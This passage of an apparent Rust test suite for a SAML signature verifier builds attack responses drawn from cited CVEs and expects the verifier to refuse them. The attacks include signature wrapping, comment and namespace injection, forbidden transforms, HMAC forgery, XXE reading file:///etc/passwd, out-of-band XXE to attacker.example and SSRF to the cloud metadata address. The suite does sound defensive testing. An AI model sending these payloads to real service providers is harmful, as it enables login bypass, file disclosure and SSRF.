        // Shibboleth XMLTooling CVE-2023-36661: a KeyInfo RetrievalMethod
        // made the SP fetch a URL (SSRF). Nothing here fetches anything.
        Case::new(
            "signed by the attacker, KeyInfo RetrievalMethod to the attacker's URL",
            "Shibboleth Service Provider security advisory 2023-06-12, XMLTooling CVE-2023-36661, https://shibboleth.net/community/advisories/secadv_20230612.txt",
            |b| {
                let signed = b.attacker_sign(&b.evil, &b.aid);
                let ki = element(&signed, "<ds:KeyInfo", "</ds:KeyInfo>").to_owned();
                b.response(&replace1(
                    &signed,
                    &ki,
                    r#"<ds:KeyInfo><ds:RetrievalMethod URI="http://169.254.169.254/latest/meta-data/" Type="http://www.w3.org/2000/09/xmldsig#X509Data"/></ds:KeyInfo>"#,
                ))
            },
            refused(&[SignatureInvalid]),
        ),
        // KeyInfo only selects among trusted keys: a genuine signature
        // verifies whatever KeyInfo claims, and the genuine content counts.
        Case::new(
            "genuine signature, KeyInfo swapped for the attacker's certificate",
            src,
            |b| {
                let r = b.assertion_signed();
                let old = between(&r, "<ds:X509Certificate>", "</ds:X509Certificate>").to_owned();
                r.replacen(&old, &keys().attacker.cert_b64(), 1)
            },
            Want::Accepted(ALICE),
        ),
        Case::new(
            "genuine signature, KeyInfo RetrievalMethod (never fetched)",
            "Shibboleth XMLTooling CVE-2023-36661, https://shibboleth.net/community/advisories/secadv_20230612.txt",
            |b| {
                let r = b.assertion_signed();
                let ki = element(&r, "<ds:KeyInfo", "</ds:KeyInfo>").to_owned();
                replace1(
                    &r,
                    &ki,
                    r#"<ds:KeyInfo><ds:RetrievalMethod URI="http://169.254.169.254/latest/meta-data/"/></ds:KeyInfo>"#,
                )
            },
            Want::Accepted(ALICE),
        ),
        Case::new(
            "genuine signature, KeyInfo removed",
            src,
            |b| {
                let r = b.assertion_signed();
                let ki = element(&r, "<ds:KeyInfo", "</ds:KeyInfo>").to_owned();
                replace1(&r, &ki, "")
            },
            Want::Accepted(ALICE),
        ),
    ]
}

family!(
    certificate_faking,
    certificate_faking_is_refused_by_the_library,
    certificate_faking_is_refused_by_the_layer
);

// ====================================================================
// Comment and processing-instruction injection
// ====================================================================

/// The attacker registered `admin@example.com.evil.test` at the IdP, which
/// signs it; then cuts it with a comment after `admin@example.com`. A reader
/// that stops at the first text node signs the attacker in as admin.
/// Invariant 4: the text is every text node, so the login is accepted as
/// the full, registered name (the comment changes neither the digest nor
/// the value), or refused where the markup change alters the digest.
const REGISTERED: &str = "admin@example.com.evil.test";

fn cut(xml: &str, with: &str) -> String {
    xml.replace(REGISTERED, &format!("admin@example.com{with}.evil.test"))
}

fn comment_injection() -> Vec<Case> {
    let cves = "CVE-2017-11427 (python-saml), CVE-2017-11428 (ruby-saml), CVE-2017-11429 (clever/saml2), CVE-2017-11430 (OmniAuth-SAML), CVE-2018-0489 (Shibboleth XMLTooling), CVE-2018-5387 (Wizkunde SAMLBase); Duo Labs 2018, https://duo.com/blog/duo-finds-saml-vulnerabilities-affecting-multiple-implementations";
    vec![
        Case::new(
            "comment in NameID and attribute, assertion signed",
            cves,
            |b| cut(&b.assertion_signed(), "<!---->"),
            Want::Accepted(REGISTERED),
        )
        .subject(REGISTERED),
        Case::new(
            "comment in NameID and attribute, Response signed",
            cves,
            |b| cut(&b.response_signed(), "<!---->"),
            Want::Accepted(REGISTERED),
        )
        .subject(REGISTERED),
        Case::new(
            "comment in NameID and attribute, both signed",
            cves,
            |b| cut(&b.both_signed(), "<!-- x -->"),
            Want::Accepted(REGISTERED),
        )
        .subject(REGISTERED),
        Case::new(
            "comment only in NameID",
            cves,
            |b| {
                replace1(
                    &b.assertion_signed(),
                    &format!("{REGISTERED}</saml:NameID>"),
                    "admin@example.com<!---->.evil.test</saml:NameID>",
                )
            },
            Want::Accepted(REGISTERED),
        )
        .subject(REGISTERED),
        Case::new(
            "comment in an encrypted assertion",
            cves,
            |b| b.response(&encrypted(&cut(&b.signed_assertion, "<!---->"))),
            Want::Accepted(REGISTERED),
        )
        .subject(REGISTERED),
        Case::new(
            "comment before the value",
            cves,
            |b| {
                b.assertion_signed()
                    .replace(REGISTERED, &format!("<!--admin-->{REGISTERED}"))
            },
            Want::Accepted(REGISTERED),
        )
        .subject(REGISTERED),
        Case::new(
            "several comments",
            cves,
            |b| {
                b.assertion_signed().replace(
                    REGISTERED,
                    "admin<!--a-->@example<!--b-->.com<!--c-->.evil.test",
                )
            },
            Want::Accepted(REGISTERED),
        )
        .subject(REGISTERED),
        Case::new(
            "empty CDATA section",
            cves,
            |b| cut(&b.assertion_signed(), "<![CDATA[]]>"),
            Want::Accepted(REGISTERED),
        )
        .subject(REGISTERED),
        Case::new(
            "character reference for the @",
            "parser consistency: XML 1.0 section 4.1 (character references are the character)",
            |b| {
                b.assertion_signed()
                    .replace(REGISTERED, "admin&#64;example.com.evil.test")
            },
            Want::Accepted(REGISTERED),
        )
        .subject(REGISTERED),
        // A processing instruction is part of the canonical form (C14N 1.0
        // section 2.3): inserting one changes the digest.
        Case::new(
            "processing instruction in NameID and attribute",
            cves,
            |b| cut(&b.assertion_signed(), "<?evil cut?>"),
            refused(&[DigestMismatch]),
        )
        .subject(REGISTERED),
        Case::new(
            "an element in the NameID",
            cves,
            |b| cut(&b.assertion_signed(), "<x/>"),
            refused(&[DigestMismatch, MalformedXml]),
        )
        .subject(REGISTERED),
        // CVE-2018-7340 (Duo Network Gateway) variant: text appended after a
        // comment; the added text is signed content.
        Case::new(
            "text appended after a comment (CVE-2018-7340 variant)",
            DUO,
            |b| {
                b.assertion_signed()
                    .replace(&format!("{ALICE}<"), &format!("{ALICE}<!---->.evil.test<"))
            },
            refused(&[DigestMismatch]),
        ),
        Case::new(
            "comments in Issuer and Audience",
            cves,
            |b| {
                b.assertion_signed()
                    .replace("</saml:Issuer>", "<!-- x --></saml:Issuer>")
                    .replace(
                        "/saml/metadata</saml:Audience>",
                        "/saml<!---->/metadata</saml:Audience>",
                    )
            },
            Want::Accepted(ALICE),
        ),
    ]
}

family!(
    comment_injection,
    comment_and_pi_injection_by_the_library,
    comment_and_pi_injection_by_the_layer
);

// ====================================================================
// Namespace confusion
// ====================================================================

fn namespace_confusion() -> Vec<Case> {
    let diff = "ruby-saml CVE-2025-25292 and CVE-2025-66567 (namespace handling parser differential), https://github.blog/security/sign-in-as-anyone-bypassing-saml-sso-authentication-with-parser-differentials/";
    vec![
        Case::new(
            "evil saml:Assertion in a foreign namespace before the signed one",
            SOMOROVSKY,
            |b| {
                let foreign = b
                    .evil_with_id("_evil")
                    .replacen(SAML_NS, "urn:evil:saml", 1);
                b.response(&format!("{foreign}{}", b.signed_assertion))
            },
            // Not a SAML assertion: the signed one is read.
            Want::Accepted(ALICE),
        ),
        Case::new(
            "the same, carrying the signed assertion's ID",
            SOMOROVSKY,
            |b| {
                let foreign = b.evil.replacen(SAML_NS, "urn:evil:saml", 1);
                b.response(&format!("{foreign}{}", b.signed_assertion))
            },
            // Whatever its namespace, a second element with the ID is refused.
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "evil assertion in the default namespace (no prefix)",
            SOMOROVSKY,
            |b| {
                let unprefixed = b
                    .evil
                    .replace("<saml:", "<")
                    .replace("</saml:", "</")
                    .replacen("xmlns:saml=", "xmlns=", 1);
                b.response(&format!("{unprefixed}{}", b.signed_assertion))
            },
            refused(&[AmbiguousAssertion, SignatureInvalid]),
        ),
        Case::new(
            "evil assertion under another prefix for the SAML namespace",
            SOMOROVSKY,
            |b| {
                let other = b
                    .evil
                    .replace("<saml:", "<saml2:")
                    .replace("</saml:", "</saml2:")
                    .replacen("xmlns:saml=", "xmlns:saml2=", 1);
                b.response(&format!("{other}{}", b.signed_assertion))
            },
            refused(&[AmbiguousAssertion, SignatureInvalid]),
        ),
        Case::new(
            "signed assertion hidden by rebinding its prefix, evil assertion in the SAML namespace",
            diff,
            |b| {
                let hidden = b.signed_assertion.replacen(
                    &format!(r#"xmlns:saml="{SAML_NS}""#),
                    r#"xmlns:saml="urn:evil:saml""#,
                    1,
                );
                b.response(&format!("{hidden}{}", b.evil))
            },
            refused(&[SignatureMissing, SignatureInvalid, AmbiguousAssertion]),
        ),
        Case::new(
            "the signature's ds prefix rebound to a foreign namespace",
            diff,
            |b| {
                b.response(&b.evil_with_signature().replacen(
                    &format!(r#"xmlns:ds="{DS_NS}""#),
                    r#"xmlns:ds="urn:evil:dsig""#,
                    1,
                ))
            },
            refused(&[SignatureMissing]),
        ),
        Case::new(
            "saml prefix rebound on the NameID inside the signed assertion",
            diff,
            |b| {
                b.assertion_signed().replacen(
                    "<saml:NameID ",
                    r#"<saml:NameID xmlns:saml="urn:evil:saml" "#,
                    1,
                )
            },
            refused(&[DigestMismatch]),
        ),
        Case::new(
            "Response's saml prefix rebound (its Issuer is foreign)",
            diff,
            |b| {
                b.assertion_signed().replacen(
                    &format!(r#"xmlns:saml="{SAML_NS}" ID="{}""#, b.rid),
                    &format!(r#"xmlns:saml="urn:evil:saml" ID="{}""#, b.rid),
                    1,
                )
            },
            // The library reads the signed assertion's Issuer; the layer finds
            // no SAML Issuer on the Response to pick the provider by.
            Want::Accepted(ALICE),
        )
        .layer(refused(&[IssuerMismatch])),
        Case::new(
            "samlp rebound: the root is not a SAML Response",
            diff,
            |b| b.assertion_signed().replacen(SAMLP_NS, "urn:evil:samlp", 1),
            refused(&[MalformedXml]),
        ),
        Case::new(
            "evil SAML 1.1 assertion before the signed SAML 2.0 one",
            SOMOROVSKY,
            |b| {
                let v1 = b.evil_with_id("_evil").replacen(
                    SAML_NS,
                    "urn:oasis:names:tc:SAML:1.0:assertion",
                    1,
                );
                b.response(&format!("{v1}{}", b.signed_assertion))
            },
            Want::Accepted(ALICE),
        ),
        Case::new(
            "xmlns=\"\" inside a default-namespace evil assertion",
            SOMOROVSKY,
            |b| {
                let unprefixed = b
                    .evil
                    .replace("<saml:", "<")
                    .replace("</saml:", "</")
                    .replacen("xmlns:saml=", "xmlns=", 1)
                    .replacen("<Subject>", r#"<Subject xmlns="">"#, 1);
                b.response(&format!("{}{unprefixed}", b.signed_assertion))
            },
            refused(&[AmbiguousAssertion, SignatureInvalid]),
        ),
        Case::new(
            "element name with two colons",
            GO_ROUNDTRIP,
            |b| {
                insert_before_first(
                    &b.assertion_signed(),
                    "<samlp:Status>",
                    "<saml:x:Assertion>evil</saml:x:Assertion>",
                )
            },
            refused(&[MalformedXml]),
        ),
        Case::new(
            "a prefix declared twice on one element",
            GO_ROUNDTRIP,
            |b| {
                b.assertion_signed().replacen(
                    "<samlp:Response ",
                    r#"<samlp:Response xmlns:saml="urn:evil:saml" "#,
                    1,
                )
            },
            refused(&[MalformedXml]),
        ),
        Case::new(
            "an undeclared prefix",
            GO_ROUNDTRIP,
            |b| {
                insert_before_first(
                    &b.assertion_signed(),
                    "<samlp:Status>",
                    "<evil:Assertion>x</evil:Assertion>",
                )
            },
            refused(&[MalformedXml]),
        ),
        Case::new(
            "the xml prefix rebound",
            GO_ROUNDTRIP,
            |b| {
                b.assertion_signed().replacen(
                    "<samlp:Response ",
                    r#"<samlp:Response xmlns:xml="urn:evil" "#,
                    1,
                )
            },
            refused(&[MalformedXml]),
        ),
        Case::new(
            "a namespaced and a plain attribute that collide after prefix rebinding",
            GO_ROUNDTRIP,
            |b| {
                b.assertion_signed().replacen(
                    "<samlp:Response ",
                    r#"<samlp:Response xmlns:a="urn:x" xmlns:b="urn:x" a:ID="1" b:ID="2" "#,
                    1,
                )
            },
            refused(&[MalformedXml]),
        ),
    ]
}

family!(
    namespace_confusion,
    namespace_confusion_by_the_library,
    namespace_confusion_by_the_layer
);

// ====================================================================
// Duplicate IDs and ID-like attributes
// ====================================================================

/// The evil assertion carrying the genuine signature, its `ID` replaced by
/// another attribute that some parsers treat as an ID; the signed original
/// sits in Extensions.
fn id_like(b: &Base, attr: &str) -> String {
    let evil = b.evil_with_signature().replacen(
        &format!(r#"ID="{}""#, b.aid),
        &format!(r#"ID="_evil" {attr}="{}""#, b.aid),
        1,
    );
    insert_before_first(
        &b.response(&evil),
        "<samlp:Status>",
        &format!(
            "<samlp:Extensions>{}</samlp:Extensions>",
            without_signature(&b.signed_assertion)
        ),
    )
}

fn duplicate_ids() -> Vec<Case> {
    let src = "Somorovsky et al. 2012 (ID-based wrapping); pysaml2 CVE-2020-5390 (PYSEC-2020-94) and CVE-2021-21239 (xmlsec1 resolving IDs without --id-attr), https://github.com/IdentityPython/pysaml2/security/advisories/GHSA-5p3x-r448-pc62";
    vec![
        Case::new(
            "a foreign element with the assertion's ID before it",
            src,
            |b| {
                insert_before_first(
                    &b.assertion_signed(),
                    "<samlp:Status>",
                    &format!(
                        r#"<samlp:Extensions><x:Thing xmlns:x="urn:x" ID="{}">{ADMIN}</x:Thing></samlp:Extensions>"#,
                        b.aid
                    ),
                )
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "the Response carries the assertion's ID",
            src,
            |b| {
                b.assertion_signed().replacen(
                    &format!(r#"ID="{}""#, b.rid),
                    &format!(r#"ID="{}""#, b.aid),
                    1,
                )
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "a duplicate ID inside the signature's KeyInfo",
            src,
            |b| {
                replace1(
                    &xsw_evil_signed(b),
                    "</ds:KeyInfo>",
                    &format!(r#"<x:Y xmlns:x="urn:x" ID="{}"/></ds:KeyInfo>"#, b.aid),
                )
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "ID written twice on the evil assertion",
            src,
            |b| {
                b.response(&b.evil_with_signature().replacen(
                    &format!(r#"ID="{}""#, b.aid),
                    &format!(r#"ID="{}" ID="_evil""#, b.aid),
                    1,
                ))
            },
            refused(&[MalformedXml]),
        ),
        Case::new("xml:id", src, |b| id_like(b, "xml:id"), refused(WRAPPING)),
        Case::new(
            "wsu:Id",
            src,
            |b| {
                id_like(b, "wsu:Id").replacen(
                    "<samlp:Response ",
                    r#"<samlp:Response xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd" "#,
                    1,
                )
            },
            refused(WRAPPING),
        ),
        Case::new("Id", src, |b| id_like(b, "Id"), refused(WRAPPING)),
        Case::new("id", src, |b| id_like(b, "id"), refused(WRAPPING)),
        Case::new("saml:ID", src, |b| id_like(b, "saml:ID"), refused(WRAPPING)),
        Case::new(
            "only an xml:id on the evil assertion (no ID at all)",
            src,
            |b| {
                b.response(&b.evil_with_signature().replacen(
                    &format!(r#"ID="{}""#, b.aid),
                    &format!(r#"xml:id="{}""#, b.aid),
                    1,
                ))
            },
            refused(&[ReferenceMismatch, SignatureInvalid]),
        ),
    ]
}

family!(
    duplicate_ids,
    duplicate_and_id_like_attributes_by_the_library,
    duplicate_and_id_like_attributes_by_the_layer
);

// ====================================================================
// Multiple Signature / SignedInfo / Reference elements
// ====================================================================

fn multiple_signature_parts() -> Vec<Case> {
    let xmlcrypto = "xml-crypto CVE-2025-29774 (GHSA-x3m8-899r-f7c3, multiple SignedInfo) and CVE-2025-29775 (GHSA-9p8x-f768-wp2g), https://github.com/node-saml/xml-crypto/security/advisories/GHSA-x3m8-899r-f7c3";
    vec![
        Case::new(
            "two Signatures on the assertion",
            SOMOROVSKY,
            |b| {
                let sig = signature_of(&b.signed_assertion).to_owned();
                b.response(&replace1(&b.signed_assertion, &sig, &format!("{sig}{sig}")))
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "the attacker's Signature first, the genuine one second",
            SOMOROVSKY,
            |b| {
                let forged = b.attacker_sign(&b.evil, &b.aid);
                let genuine = signature_of(&b.signed_assertion).to_owned();
                b.response(&replace1(
                    &forged,
                    "</ds:Signature>",
                    &format!("</ds:Signature>{genuine}"),
                ))
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "two SignedInfo: the forger's (evil digest) first, the genuine second",
            xmlcrypto,
            |b| {
                let r = xsw_evil_signed(b);
                let genuine = element(&r, "<ds:SignedInfo", "</ds:SignedInfo>").to_owned();
                let forged = set_text(&genuine, "DigestValue", &evil_digest(b));
                replace1(&r, &genuine, &format!("{forged}{genuine}"))
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "two SignedInfo: the genuine first, the forger's second",
            xmlcrypto,
            |b| {
                let r = xsw_evil_signed(b);
                let genuine = element(&r, "<ds:SignedInfo", "</ds:SignedInfo>").to_owned();
                let forged = set_text(&genuine, "DigestValue", &evil_digest(b));
                replace1(&r, &genuine, &format!("{genuine}{forged}"))
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "two References to the same ID",
            SOMOROVSKY,
            |b| {
                let r = b.assertion_signed();
                let reference = element(&r, "<ds:Reference", "</ds:Reference>").to_owned();
                replace1(&r, &reference, &format!("{reference}{reference}"))
            },
            refused(&[ReferenceMismatch]),
        ),
        Case::new(
            "a second Reference to the Response",
            SOMOROVSKY,
            |b| {
                let r = b.assertion_signed();
                let reference = element(&r, "<ds:Reference", "</ds:Reference>").to_owned();
                let other = reference.replacen(&format!("#{}", b.aid), &format!("#{}", b.rid), 1);
                replace1(&r, &reference, &format!("{reference}{other}"))
            },
            refused(&[ReferenceMismatch]),
        ),
        Case::new(
            "two SignatureValues",
            SOMOROVSKY,
            |b| {
                let r = b.assertion_signed();
                let sv = element(&r, "<ds:SignatureValue", "</ds:SignatureValue>").to_owned();
                replace1(&r, &sv, &format!("{sv}{sv}"))
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "two KeyInfos",
            SOMOROVSKY,
            |b| {
                let r = b.assertion_signed();
                let ki = element(&r, "<ds:KeyInfo", "</ds:KeyInfo>").to_owned();
                replace1(&r, &ki, &format!("{ki}{ki}"))
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "a Signature inside the Status",
            SOMOROVSKY,
            |b| {
                let sig = signature_of(&b.signed_assertion).to_owned();
                replace1(
                    &b.assertion_signed(),
                    "</samlp:Status>",
                    &format!("<samlp:StatusDetail>{sig}</samlp:StatusDetail></samlp:Status>"),
                )
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "a Signature inside the NameID",
            SOMOROVSKY,
            |b| {
                let sig = signature_of(&b.signed_assertion).to_owned();
                b.response(&replace1(
                    &b.signed_assertion,
                    "</saml:NameID>",
                    &format!("{sig}</saml:NameID>"),
                ))
            },
            refused(&[SignatureInvalid, DigestMismatch]),
        ),
        Case::new(
            "a Manifest in an Object",
            DSIG_BP,
            |b| {
                let r = xsw_evil_signed(b);
                replace1(
                    &r,
                    "</ds:Signature>",
                    &format!(
                        r##"<ds:Object><ds:Manifest><ds:Reference URI="#{}"><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue>{}</ds:DigestValue></ds:Reference></ds:Manifest></ds:Object></ds:Signature>"##,
                        b.aid,
                        evil_digest(b)
                    ),
                )
            },
            refused(&[SignatureInvalid]),
        ),
        Case::new(
            "Reference URI=\"\" on the assertion",
            DSIG_BP,
            |b| {
                b.assertion_signed()
                    .replacen(&format!(r##"URI="#{}""##, b.aid), r#"URI="""#, 1)
            },
            refused(&[ReferenceMismatch]),
        ),
        Case::new(
            "Reference URI=\"#xpointer(id(...))\"",
            DSIG_BP,
            |b| {
                b.assertion_signed().replacen(
                    &format!(r##"URI="#{}""##, b.aid),
                    &format!(r##"URI="#xpointer(id('{}'))""##, b.aid),
                    1,
                )
            },
            refused(&[ReferenceMismatch]),
        ),
        Case::new(
            "Reference URI=\"#xpointer(/)\"",
            DSIG_BP,
            |b| {
                b.assertion_signed().replacen(
                    &format!(r##"URI="#{}""##, b.aid),
                    r##"URI="#xpointer(/)""##,
                    1,
                )
            },
            refused(&[ReferenceMismatch]),
        ),
        Case::new(
            "Reference to an external URL",
            DSIG_BP,
            |b| {
                b.assertion_signed().replacen(
                    &format!(r##"URI="#{}""##, b.aid),
                    r#"URI="https://attacker.example/assertion.xml""#,
                    1,
                )
            },
            refused(&[ReferenceMismatch]),
        ),
    ]
}

family!(
    multiple_signature_parts,
    multiple_signature_parts_by_the_library,
    multiple_signature_parts_by_the_layer
);

// ====================================================================
// Transforms and algorithms beyond the allowed ones
// ====================================================================

const ENVELOPED_T: &str =
    r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>"#;
const EXC_T: &str = r#"<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"#;

fn transforms() -> Vec<Case> {
    vec![
        // Signed for real by xmlsec1 with an XPath filter that leaves the
        // NameID out of the digest; the attacker then changes the NameID.
        Case::new(
            "XPath transform excluding the NameID, NameID changed",
            DSIG_BP,
            |b| {
                let t = format!(
                    r#"{ENVELOPED_T}<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath xmlns:saml="{SAML_NS}">not(ancestor-or-self::saml:NameID)</ds:XPath></ds:Transform>{EXC_T}"#
                );
                replace1(
                    &signed_with_transforms(b, &t),
                    &format!("{ALICE}</saml:NameID>"),
                    &format!("{ADMIN}</saml:NameID>"),
                )
            },
            refused(&[AlgorithmForbidden]),
        ),
        Case::new(
            "XPath Filter 2.0 subtracting the Subject",
            DSIG_BP,
            |b| {
                let t = format!(
                    r#"{ENVELOPED_T}<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><dsig-xpath:XPath xmlns:dsig-xpath="http://www.w3.org/2002/06/xmldsig-filter2" xmlns:saml="{SAML_NS}" Filter="subtract">//saml:Subject</dsig-xpath:XPath></ds:Transform>{EXC_T}"#
                );
                signed_with_transforms(b, &t).replace(ALICE, ADMIN)
            },
            refused(&[AlgorithmForbidden]),
        ),
        Case::new(
            "XSLT transform",
            "W3C XML Signature Best Practices (2013), section 2.1.1: avoid the XSLT transform (arbitrary computation, denial of service), https://www.w3.org/TR/xmldsig-bestpractices/",
            |b| {
                let t = format!(
                    r#"{ENVELOPED_T}<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">x</xsl:template></xsl:stylesheet></ds:Transform>"#
                );
                signed_with_transforms(b, &t).replace(ALICE, ADMIN)
            },
            refused(&[AlgorithmForbidden]),
        ),
        Case::new(
            "base64 transform",
            DSIG_BP,
            |b| {
                let t = format!(
                    r#"{ENVELOPED_T}<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>"#
                );
                signed_with_transforms(b, &t)
            },
            refused(&[AlgorithmForbidden]),
        ),
        Case::new(
            "enveloped-signature twice",
            DSIG_BP,
            |b| signed_with_transforms(b, &format!("{ENVELOPED_T}{ENVELOPED_T}{EXC_T}")),
            refused(&[AlgorithmForbidden]),
        ),
        Case::new(
            "C14N transform before enveloped-signature",
            DSIG_BP,
            |b| signed_with_transforms(b, &format!("{EXC_T}{ENVELOPED_T}")),
            refused(&[AlgorithmForbidden]),
        ),
        Case::new(
            "no Transforms at all",
            DSIG_BP,
            |b| {
                let r = b.assertion_signed();
                let t = element(&r, "<ds:Transforms>", "</ds:Transforms>").to_owned();
                replace1(&r, &t, "")
            },
            refused(&[AlgorithmForbidden]),
        ),
        Case::new(
            "Canonical XML 2.0 as CanonicalizationMethod",
            DSIG_BP,
            |b| {
                b.assertion_signed().replacen(
                    r#"<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#""#,
                    r#"<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2006/12/xml-c14n2""#,
                    1,
                )
            },
            refused(&[AlgorithmForbidden]),
        ),
        Case::new(
            "RSA-SHA1 and SHA-1 without the opt-in (genuinely signed by xmlsec1)",
            "SHAttered (Stevens et al. 2017), SHA-1 chosen-prefix collisions (Leurent, Peyrin 2020); XML Signature 1.1 section 6.4.2",
            |b| {
                let sha1 = |xml: &str| {
                    xml.replace(
                        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
                        "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
                    )
                    .replace(
                        "http://www.w3.org/2001/04/xmlenc#sha256",
                        "http://www.w3.org/2000/09/xmldsig#sha1",
                    )
                };
                let signed = match b.signer {
                    Signer::Xmlsec => {
                        let t = sha1(&template(&b.aid, &standard_transforms()));
                        let doc = kit::after_issuer_of(&b.assertion, &b.aid, &t);
                        xmlsec_sign_template(&doc, &keys().idp).unwrap()
                    }
                    Signer::Ours => sha1(&b.signed_assertion),
                };
                b.response(&signed)
            },
            refused(&[AlgorithmForbidden]),
        ),
        Case::new(
            "MD5 digest",
            "RFC 6151 (MD5 is broken for signatures)",
            |b| {
                b.assertion_signed().replacen(
                    "http://www.w3.org/2001/04/xmlenc#sha256",
                    "http://www.w3.org/2001/04/xmldsig-more#md5",
                    1,
                )
            },
            refused(&[AlgorithmForbidden]),
        ),
        // CVE-2009-0217: HMAC with HMACOutputLength truncated to 0 bits
        // verified anything (xmlsec1, Apache Santuario, .NET, ...).
        Case::new(
            "HMAC-SHA256 with HMACOutputLength 0 (CVE-2009-0217)",
            "CVE-2009-0217 (XML-DSig HMAC truncation), https://www.kb.cert.org/vuls/id/466161",
            |b| {
                let (si, _) = signed_info(
                    &b.aid,
                    "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
                    &evil_digest(b),
                );
                let si = si.replacen(
                    r#"#hmac-sha256"/>"#,
                    r#"#hmac-sha256"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>"#,
                    1,
                );
                let sig = format!(
                    r#"<ds:Signature xmlns:ds="{DS_NS}">{si}<ds:SignatureValue></ds:SignatureValue></ds:Signature>"#
                );
                b.response(&insert_after_first(&b.evil, "</saml:Issuer>", &sig))
            },
            refused(&[AlgorithmForbidden]),
        ),
        // xml-crypto GHSA-c27r-x354-4m68: an HMAC whose key is the IdP's
        // *public* certificate verified, so anyone could "sign".
        Case::new(
            "HMAC-SHA256 keyed with the IdP's public certificate",
            "xml-crypto GHSA-c27r-x354-4m68 (an HMAC keyed with the public key verified), https://github.com/node-saml/xml-crypto/security/advisories/GHSA-c27r-x354-4m68",
            |b| {
                let (si, c14n) = signed_info(
                    &b.aid,
                    "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
                    &evil_digest(b),
                );
                let key = aws_lc_rs::hmac::Key::new(
                    aws_lc_rs::hmac::HMAC_SHA256,
                    keys().idp.cert_pem.as_bytes(),
                );
                let mac = aws_lc_rs::hmac::sign(&key, &c14n);
                let sig = format!(
                    r#"<ds:Signature xmlns:ds="{DS_NS}">{si}<ds:SignatureValue>{}</ds:SignatureValue></ds:Signature>"#,
                    kit::b64_bytes(mac.as_ref())
                );
                b.response(&insert_after_first(&b.evil, "</saml:Issuer>", &sig))
            },
            refused(&[AlgorithmForbidden]),
        ),
        Case::new(
            "unknown SignatureMethod",
            DSIG_BP,
            |b| {
                b.assertion_signed().replacen(
                    "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
                    "urn:attacker:none",
                    1,
                )
            },
            refused(&[AlgorithmForbidden]),
        ),
    ]
}

family!(
    transforms,
    transforms_and_algorithms_beyond_the_allowed_by_the_library,
    transforms_and_algorithms_beyond_the_allowed_by_the_layer
);

// ====================================================================
// DTD, XXE, entity expansion, encodings
// ====================================================================

fn dtd_xxe() -> Vec<Case> {
    let parser_diff = "ruby-saml CVE-2025-25291 (DOCTYPE parser differential between REXML and Nokogiri), https://github.blog/security/sign-in-as-anyone-bypassing-saml-sso-authentication-with-parser-differentials/";
    vec![
        Case::new(
            "internal entity in the NameID",
            XXE,
            |b| {
                format!(
                    r#"<!DOCTYPE samlp:Response [<!ENTITY who "{ADMIN}">]>{}"#,
                    b.assertion_signed().replacen(ALICE, "&who;", 1)
                )
            },
            refused(&[DtdForbidden]),
        ),
        Case::new(
            "external entity (file:///etc/passwd)",
            XXE,
            |b| {
                format!(
                    r#"<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>{}"#,
                    b.assertion_signed().replacen(ALICE, "&xxe;", 1)
                )
            },
            refused(&[DtdForbidden]),
        ),
        Case::new(
            "billion laughs",
            "Billion laughs (CVE-2003-1564 class), https://en.wikipedia.org/wiki/Billion_laughs_attack",
            |b| {
                let mut dtd = String::from(r#"<!DOCTYPE r [<!ENTITY l0 "lol">"#);
                for i in 1..10 {
                    let p = i - 1;
                    dtd.push_str(&format!(
                        r#"<!ENTITY l{i} "&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};&l{p};">"#
                    ));
                }
                dtd.push_str("]>");
                format!("{dtd}{}", b.assertion_signed().replacen(ALICE, "&l9;", 1))
            },
            refused(&[DtdForbidden]),
        ),
        Case::new(
            "external parameter entity (out-of-band XXE)",
            XXE,
            |b| {
                format!(
                    r#"<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>{}"#,
                    b.assertion_signed()
                )
            },
            refused(&[DtdForbidden]),
        ),
        Case::new(
            "external DTD subset",
            XXE,
            |b| {
                format!(
                    r#"<!DOCTYPE samlp:Response SYSTEM "http://attacker.example/saml.dtd">{}"#,
                    b.assertion_signed()
                )
            },
            refused(&[DtdForbidden]),
        ),
        Case::new(
            "bare DOCTYPE",
            parser_diff,
            |b| format!("<!DOCTYPE samlp:Response>{}", b.assertion_signed()),
            refused(&[DtdForbidden]),
        ),
        Case::new(
            "ATTLIST declaring an ID attribute (DOCTYPE differential)",
            parser_diff,
            |b| {
                format!(
                    r#"<!DOCTYPE samlp:Response [<!ATTLIST saml:Assertion Evil ID #IMPLIED><!-- ]> -->]>{}"#,
                    b.assertion_signed()
                )
            },
            refused(&[DtdForbidden]),
        ),
        Case::new(
            "an undeclared entity reference",
            XXE,
